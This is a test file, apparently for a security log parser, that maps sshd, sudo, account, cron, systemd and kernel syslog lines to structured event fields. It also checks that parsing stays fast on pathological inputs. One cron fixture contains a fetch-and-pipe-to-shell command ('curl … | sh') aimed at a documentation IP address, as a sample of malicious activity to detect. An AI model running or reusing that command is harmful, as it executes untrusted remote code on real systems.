import { describe, expect, it } from 'vitest';
import type { Document } from '../../event.ts';
import { read } from '../doc.ts';
import { fillFromLine } from './line.ts';

function fields(program: string | undefined, message: string): Record<string, unknown> {
  const document: Document = {};
  fillFromLine(document, program, message);
  const paths = {
    action: 'event.action',
    outcome: 'event.outcome',
    user: 'user.name',
    effective: 'user.effective.name',
    target: 'user.target.name',
    group: 'group.name',
    ip: 'source.ip',
    domain: 'source.domain',
    port: 'source.port',
    command: 'process.command_line',
    folder: 'process.working_directory',
    reason: 'event.reason',
    service: 'service.name',
  };
  const found = Object.entries(paths).map(([name, path]) => [name, read(document, path)] as const);
  return Object.fromEntries(found.filter(([, value]) => value !== undefined));
}

const failed = { action: 'ssh_login', outcome: 'failure' };

describe('sshd', () => {
  it.each([
    [
      'Failed password for invalid user admin from 2001:db8::5 port 22000 ssh2',
      { ...failed, user: 'admin', ip: '2001:db8::5', port: 22000, reason: 'invalid user' },
    ],
    [
      'Failed keyboard-interactive/pam for ann from 203.0.113.9 port 1 ssh2',
      { ...failed, user: 'ann', ip: '203.0.113.9', port: 1 },
    ],
    [
      'Failed password for invalid user  from 203.0.113.9 port 7 ssh2',
      { ...failed, ip: '203.0.113.9', port: 7, reason: 'invalid user' },
    ],
    [
      'Accepted password for ann from 10.0.0.1 port 99 ssh2',
      { action: 'ssh_login', outcome: 'success', user: 'ann', ip: '10.0.0.1', port: 99 },
    ],
    ['Invalid user a b from 203.0.113.9 port 4', { ...failed, user: 'a b', ip: '203.0.113.9', port: 4, reason: 'invalid user' }],
    ['Invalid user bob from 203.0.113.9', { ...failed, user: 'bob', ip: '203.0.113.9', reason: 'invalid user' }],
    [
      'User root from 203.0.113.9 not allowed because listed in DenyUsers',
      { ...failed, user: 'root', ip: '203.0.113.9', reason: 'listed in DenyUsers' },
    ],
    [
      'error: maximum authentication attempts exceeded for invalid user bob from 203.0.113.9 port 5 ssh2 [preauth]',
      { ...failed, user: 'bob', ip: '203.0.113.9', port: 5, reason: 'maximum authentication attempts exceeded' },
    ],
    [
      'Connection closed by authenticating user root 203.0.113.9 port 6 [preauth]',
      { action: 'ssh_probe', outcome: 'failure', user: 'root', ip: '203.0.113.9', port: 6 },
    ],
    [
      'Connection closed by 203.0.113.9 port 6 [preauth]',
      { action: 'ssh_probe', outcome: 'failure', ip: '203.0.113.9', port: 6 },
    ],
    ['Disconnected from user ann 10.0.0.1 port 99', { action: 'ssh_disconnect', user: 'ann', ip: '10.0.0.1', port: 99 }],
    [
      'Disconnecting invalid user x 203.0.113.9 port 3: Too many authentication failures [preauth]',
      { action: 'ssh_probe', outcome: 'failure', user: 'x', ip: '203.0.113.9', port: 3, reason: 'invalid user' },
    ],
    [
      'Received disconnect from 203.0.113.9 port 8:11: Bye Bye [preauth]',
      { action: 'ssh_disconnect', ip: '203.0.113.9', port: 8 },
    ],
    [
      'Did not receive identification string from 203.0.113.9 port 9',
      { action: 'ssh_probe', outcome: 'failure', ip: '203.0.113.9', port: 9 },
    ],
    [
      "Bad protocol version identification 'GET / HTTP/1.1' from 203.0.113.9 port 9",
      { action: 'ssh_probe', outcome: 'failure', ip: '203.0.113.9', port: 9 },
    ],
    ['ROOT LOGIN REFUSED FROM 203.0.113.9', { ...failed, user: 'root', ip: '203.0.113.9', reason: 'root login refused' }],
    [
      'message repeated 3 times: [ Failed password for root from 203.0.113.9 port 2 ssh2]',
      { ...failed, user: 'root', ip: '203.0.113.9', port: 2 },
    ],
    [
      'PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root',
      { ...failed, user: 'root', ip: '203.0.113.9', reason: 'authentication failure' },
    ],
    [
      'pam_unix(sshd:session): session opened for user ann(uid=1000) by (uid=0)',
      { action: 'session-opened', outcome: 'success', user: 'ann', service: 'sshd' },
    ],
    ['Server listening on 0.0.0.0 port 22.', {}],
  ])('%s', (message, expected) => expect(fields('sshd', message)).toEqual(expected));

  it('resists a user name that reads like an address', () => {
    const message = 'Failed password for invalid user root from 10.0.0.1 port 22 ssh2 from 203.0.113.9 port 4242 ssh2';
    expect(fields('sshd', message)).toMatchObject({ ip: '203.0.113.9', port: 4242, user: 'root from 10.0.0.1 port 22 ssh2' });
  });

  it('recognises the programs split off by OpenSSH 9.8, and a path before the name', () => {
    expect(fields('/usr/lib/openssh/sshd-session', 'Accepted password for ann from 10.0.0.1 port 99 ssh2')).toMatchObject({
      outcome: 'success',
    });
  });
});

describe('sudo and su', () => {
  it.each([
    [
      'sudo',
      'bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash',
      {
        action: 'sudo_command',
        outcome: 'failure',
        user: 'bob',
        effective: 'root',
        command: '/bin/bash',
        folder: '/tmp',
        reason: 'user NOT in sudoers',
      },
    ],
    [
      'sudo',
      'bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/apt update',
      {
        action: 'sudo_command',
        outcome: 'failure',
        user: 'bob',
        effective: 'root',
        command: '/usr/bin/apt update',
        folder: '/',
        reason: '3 incorrect password attempts',
      },
    ],
    [
      'sudo',
      'bob : command not allowed ; TTY=pts/1 ; PWD=/ ; USER=postgres ; COMMAND=/bin/sh',
      {
        action: 'sudo_command',
        outcome: 'failure',
        user: 'bob',
        effective: 'postgres',
        command: '/bin/sh',
        folder: '/',
        reason: 'command not allowed',
      },
    ],
    [
      'sudo',
      'ann : TTY=unknown ; PWD=/a ; b ; USER=root ; GROUP=adm ; ENV=A=1 ; COMMAND=/usr/bin/env USER=x COMMAND=y',
      {
        action: 'sudo_command',
        outcome: 'success',
        user: 'ann',
        effective: 'root',
        command: '/usr/bin/env USER=x COMMAND=y',
        folder: '/a ; b',
      },
    ],
    [
      'sudo',
      'pam_unix(sudo:auth): authentication failure; logname=bob uid=1000 euid=0 tty=/dev/pts/1 ruser=bob rhost=  user=bob',
      { action: 'sudo', outcome: 'failure', user: 'bob', reason: 'authentication failure' },
    ],
    ['su', '(to root) ann on pts/0', { action: 'su', outcome: 'success', user: 'ann', effective: 'root' }],
    ['su', 'FAILED SU (to root) bob on pts/2', { action: 'su', outcome: 'failure', user: 'bob', effective: 'root' }],
    ['su', 'Successful su for root by ann', { action: 'su', outcome: 'success', user: 'ann', effective: 'root' }],
    ['su', '- /dev/pts/0 bob:root', { action: 'su', outcome: 'failure', user: 'bob', effective: 'root' }],
  ])('%s: %s', (program, message, expected) => expect(fields(program, message)).toEqual(expected));
});

describe('accounts, cron, systemd, kernel', () => {
  it.each([
    [
      'useradd',
      'new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/sh, from=none',
      { action: 'added-user-account', outcome: 'success', user: 'eve', target: 'eve' },
    ],
    [
      'useradd',
      "add 'eve' to group 'sudo'",
      { action: 'added-member-to-group', outcome: 'success', user: 'eve', target: 'eve', group: 'sudo' },
    ],
    [
      'usermod',
      "add 'eve' to shadow group 'sudo'",
      { action: 'added-member-to-group', outcome: 'success', user: 'eve', target: 'eve', group: 'sudo' },
    ],
    ['usermod', "change user 'eve' password", { action: 'changed-password', outcome: 'success', user: 'eve', target: 'eve' }],
    ['userdel', "delete user 'eve'", { action: 'deleted-user-account', outcome: 'success', user: 'eve', target: 'eve' }],
    ['groupadd', 'new group: name=ops, GID=1005', { action: 'added-group-account', outcome: 'success', group: 'ops' }],
    ['groupdel', "group 'ops' removed", { action: 'deleted-group-account', outcome: 'success', group: 'ops' }],
    [
      'gpasswd',
      'user eve added by root to group docker',
      { action: 'added-member-to-group', outcome: 'success', user: 'root', target: 'eve', group: 'docker' },
    ],
    [
      'passwd',
      'pam_unix(passwd:chauthtok): password changed for eve',
      { action: 'changed-password', outcome: 'success', user: 'eve', target: 'eve', service: 'passwd' },
    ],
    [
      'chpasswd',
      'pam_unix(chpasswd:chauthtok): password changed for root',
      { action: 'changed-password', outcome: 'success', user: 'root', target: 'root', service: 'chpasswd' },
    ],
    [
      'CRON',
      '(www-data) CMD (curl -s http://203.0.113.7/x | sh)',
      { action: 'cron_command', outcome: 'success', user: 'www-data', command: 'curl -s http://203.0.113.7/x | sh' },
    ],
    ['crontab', '(eve) REPLACE (eve)', { action: 'crontab_changed', outcome: 'success', user: 'eve', target: 'eve' }],
    ['systemd-logind', 'New session 12 of user ann.', { action: 'session-opened', outcome: 'success', user: 'ann' }],
    ['systemd', 'Started evil.service - Evil.', { action: 'service-started', outcome: 'success', service: 'evil.service' }],
    [
      'systemd',
      'Failed to start ufw.service - Uncomplicated firewall.',
      { action: 'service-start-failed', outcome: 'failure', service: 'ufw.service' },
    ],
    ['kernel', '[ 1.5] device eth0 entered promiscuous mode', { action: 'promiscuous-mode-entered' }],
    [
      'kernel',
      'IPT-ACCEPT: IN= OUT=eth0 SRC=10.0.0.5 DST=203.0.113.7 PROTO=UDP SPT=5 DPT=53',
      { action: 'firewall_allow', ip: '10.0.0.5', port: 5 },
    ],
    ['nginx', 'just text', {}],
    [undefined, 'Failed password for root from 203.0.113.9 port 2 ssh2', {}],
  ])('%s: %s', (program, message, expected) => expect(fields(program, message)).toEqual(expected));

  it('stays fast on hostile messages', () => {
    const hostile = [
      `Failed password for ${' from 1.1.1.1 port'.repeat(40_000)}`,
      `Invalid user ${' from x'.repeat(60_000)}`,
      `${'a'.repeat(50)} : ${'TTY= ; PWD=; USER='.repeat(30_000)}`,
      `pam_unix(sshd:auth): authentication failure; ${'user= rhost= '.repeat(40_000)}`,
      `Bad protocol version identification ${' from '.repeat(60_000)}`,
      `(${'a'.repeat(250)}) CMD (${')'.repeat(200_000)}`,
      `IN= OUT= SRC=${' SRC='.repeat(60_000)}`,
      `Started ${'a.service - '.repeat(30_000)}`,
      `message repeated 2 times: [ ${'['.repeat(200_000)}`,
    ];
    for (const message of hostile) {
      for (const program of ['sshd', 'sudo', 'su', 'useradd', 'cron', 'systemd', 'systemd-logind', 'kernel']) {
        // The best of three: the machine may be busy, a slow expression is slow each time.
        const took = [0, 1, 2].map(() => {
          const started = performance.now();
          fillFromLine({}, program, message);
          return performance.now() - started;
        });
        expect(Math.min(...took), `${program}: ${message.slice(0, 40)}`).toBeLessThan(100);
      }
    }
  });
});
